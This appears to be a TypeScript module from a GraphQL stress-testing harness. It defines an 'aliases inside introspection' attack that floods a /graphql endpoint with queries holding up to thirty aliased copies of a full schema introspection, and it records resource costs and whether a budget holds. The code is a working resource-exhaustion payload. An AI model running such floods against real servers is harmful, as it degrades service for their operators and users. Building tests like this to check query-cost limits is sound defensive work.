import type { Attack } from './attack.ts';
import { floodServed } from './flood.ts';

const TYPES = '__schema { types { name description fields { name description } } }';

export const introspectionAliases: Attack = {
  name: 'aliases inside introspection',
  promise: 'all that is selected costs; 30 aliases; 5,000,000 characters',
  found: '8.8 MB and 0.7 s of processor for 100 points',
  keepsToBudget: true,
  run: (target, until) =>
    floodServed(target, until, 4, (number) => {
      // One alias is served; thirty cost more than a document may.
      const count = number % 2 === 0 ? 1 : 30;
      const aliases = Array.from({ length: count }, (_, alias) => `a${number}_${alias}: ${TYPES}`);
      return { path: '/graphql', json: { query: `{ ${aliases.join(' ')} }` } };
    }),
};
